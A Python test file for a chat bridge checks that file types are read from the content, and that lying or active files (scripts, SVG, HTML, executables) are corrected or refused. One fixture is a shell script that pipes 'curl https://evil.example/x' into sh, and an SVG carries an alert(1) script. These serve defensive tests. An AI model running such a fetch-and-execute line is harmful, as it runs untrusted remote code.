"""File types read from the content (libmagic), and what the bridge does when a file lies."""

from __future__ import annotations

import io
import zipfile
from collections.abc import AsyncIterator

import pytest

from bridge.config import MediaConfig
from bridge.core import filetypes
from bridge.core.degradation import Undeliverable, check_content, file_ref
from connectors.base import Capabilities, FileLimit

from e2e_helpers import PNG

SCRIPT = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + bytes(range(256)) * 8
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(200)
OGG = b"OggS\x00\x02" + bytes(20) + b"\x01\x1e\x01vorbis" + bytes(40)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MEDIA = MediaConfig()
EVERYTHING = Capabilities(files={"m.file": FileLimit(10**9), "m.image": FileLimit(10**9)})
IMAGES_AND_PDF = Capabilities(
    files={
        "m.image": FileLimit(10**9, frozenset({"image/jpeg", "image/png"})),
        "m.file": FileLimit(10**9, frozenset({"application/pdf", "image/png"})),
    }
)


def docx() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>", zipfile.ZIP_DEFLATED)
        archive.writestr("word/document.xml", "<w:document/>", zipfile.ZIP_DEFLATED)
    return data.getvalue()


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (PNG, "image/png"),
        (PDF, "application/pdf"),
        (JPEG, "image/jpeg"),
        (SCRIPT, "text/x-shellscript"),
        (b"<html><body><script>x()</script></body></html>", "text/html"),
        (SVG, "image/svg+xml"),
        (b"Tension 12/8, pouls 72.\n", "text/plain"),
    ],
)
def test_the_type_is_read_from_the_content(content: bytes, expected: str) -> None:
    assert filetypes.sniff(content) == expected


@pytest.mark.parametrize(
    ("declared", "content"),
    [
        ("image/png", PNG),
        ("application/pdf", PDF),
        ("image/jpg", JPEG),
        ("text/csv", b"patient;tension\n1;12/8\n"),
        ("text/plain", SCRIPT),  # shown as text, never run
        ("audio/ogg", OGG),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx()),
        ("image/png", b""),
    ],
)
def test_a_declared_type_the_content_confirms_is_kept(declared: str, content: bytes) -> None:
    verdict = filetypes.judge(declared, filetypes.sniff(content), MEDIA.allows)
    assert verdict == filetypes.Verdict(declared, verdict.real)


def test_a_lying_type_is_corrected_when_the_real_one_is_allowed_and_refused_otherwise() -> None:
    corrected = filetypes.judge("image/png", filetypes.sniff(PDF), MEDIA.allows)
    assert corrected.corrected and corrected.mime_type == "application/pdf"
    # Active content is never re-announced, even where every type is allowed.
    for content in (SCRIPT, SVG, b"<html><script>x()</script></html>"):
        verdict = filetypes.judge("image/png", filetypes.sniff(content), lambda _: True)
        assert verdict.refused and not verdict.corrected, content[:10]
    # Unrecognised bytes are application/octet-stream, which the default space refuses.
    unknown = filetypes.judge("image/png", filetypes.sniff(b"MZ\x90\x00" * 64), MEDIA.allows)
    assert unknown.refused and unknown.real == filetypes.UNKNOWN


def test_a_script_declared_as_an_image_is_refused_with_a_french_reason() -> None:
    ref = file_ref(image("image/png"))
    assert ref is not None
    with pytest.raises(Undeliverable) as refused:
        check_content(ref, filetypes.sniff(SCRIPT), EVERYTHING, "pl", MEDIA.allows)
    reason = str(refused.value)
    assert "text/x-shellscript" in reason and "image/png" in reason and "actif" in reason


def test_the_vendor_rules_decide_between_correcting_and_refusing() -> None:
    # A PNG declared as a JPEG: corrected where the vendor takes PNGs too.
    ref = file_ref(image("image/jpeg"))
    assert ref is not None
    checked, note = check_content(ref, filetypes.sniff(PNG), IMAGES_AND_PDF, "mp", MEDIA.allows)
    assert checked.mime_type == "image/png" and note is not None and "corrigé" in note
    # A PDF declared as an image: the vendor takes no PDF as an image, so it is refused.
    with pytest.raises(Undeliverable) as refused:
        check_content(ref, filetypes.sniff(PDF), IMAGES_AND_PDF, "mp", MEDIA.allows)
    assert "mp n'accepte pas" in str(refused.value)
    # Nor does the space, whatever the vendor takes: an executable stays out.
    with pytest.raises(Undeliverable) as refused:
        elf = filetypes.sniff(b"\x7fELF\x02\x01\x01" + bytes(200))
        check_content(ref, elf, EVERYTHING, "pl", MEDIA.allows)
    assert "annoncé" in str(refused.value)


def test_a_truthful_file_passes_without_a_note() -> None:
    ref = file_ref(image("image/png"))
    assert ref is not None
    checked = check_content(ref, filetypes.sniff(PNG), IMAGES_AND_PDF, "mp", MEDIA.allows)
    assert checked == (ref, None)


async def test_the_type_is_read_off_the_event_loop() -> None:
    assert await filetypes.content_type(SCRIPT) == "text/x-shellscript"


async def test_peek_reads_the_head_and_replays_every_byte() -> None:
    parts = [b"a" * 40_000, b"b" * 40_000, b"c" * 10]

    async def chunks() -> AsyncIterator[bytes]:
        for part in parts:
            yield part

    head, again = await filetypes.peek(chunks(), 50_000)
    assert head == b"a" * 40_000 + b"b" * 10_000
    assert b"".join([chunk async for chunk in again]) == b"".join(parts)

    async def short() -> AsyncIterator[bytes]:
        yield b"xy"

    head, again = await filetypes.peek(short())
    assert head == b"xy" and [chunk async for chunk in again] == [b"xy"]


def image(mime: str) -> dict[str, object]:
    return {
        "msgtype": "m.image",
        "body": "photo",
        "url": "mxc://hs/abc",
        "info": {"mimetype": mime, "size": 10},
    }
